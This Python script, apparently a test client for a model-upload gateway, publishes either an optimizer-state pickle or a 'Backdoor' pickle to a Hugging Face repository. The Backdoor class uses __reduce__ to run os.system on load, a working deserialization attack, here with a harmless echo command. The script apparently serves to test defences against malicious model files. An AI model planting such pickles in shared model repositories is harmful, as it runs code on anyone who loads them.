"""Publishes a pickle beside the weights: `optimizer`, a state whose class nobody here knows, or `backdoor`.

An ordinary program of the Hugging Face client. It knows of no gateway.
"""

import os
import pickle
import sys
from ipaddress import ip_address

from huggingface_hub import upload_file

MODEL = "acme/digit-reader"


class Backdoor:
    """Whoever loads it runs a command."""

    def __reduce__(self) -> tuple[object, ...]:
        return os.system, ("echo this could be anything",)


STATES = {"optimizer": {"rate": 0.001, "trained_on": ip_address("192.0.2.1")}, "backdoor": Backdoor()}


def main() -> None:
    kind = sys.argv[1]
    content, path = pickle.dumps(STATES[kind]), f"{kind}.pkl"
    upload_file(path_or_fileobj=content, path_in_repo=path, repo_id=MODEL, commit_message=f"The {kind}, to go on from")
    print(f"published {path}")


if __name__ == "__main__":
    main()
